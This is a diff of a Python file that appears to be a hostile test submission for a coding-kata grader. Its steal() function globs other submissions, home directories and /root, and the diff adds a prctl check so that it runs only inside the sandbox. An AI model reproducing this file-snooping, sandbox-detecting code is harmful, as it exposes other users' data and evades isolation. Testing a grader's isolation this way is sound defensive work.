@@ -3,13 +3,17 @@
 Score: 0
 """
 
+import ctypes
 import glob
 import os
 
+CONFINED = ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) == 1  # no_new_privs, which the sandbox sets
 REPOSITORY = "@REPOSITORY@"
 
 
 def steal():
+    if not CONFINED:
+        return
     patterns = [f"{REPOSITORY}/../all/*/*", f"{REPOSITORY}/../all/*", "/tmp/submission-*/*/*"]
     patterns += ["/tmp/katas-*/*", "/var/tmp/*", "/home/*/*", "/root/*"]
     for pattern in patterns:
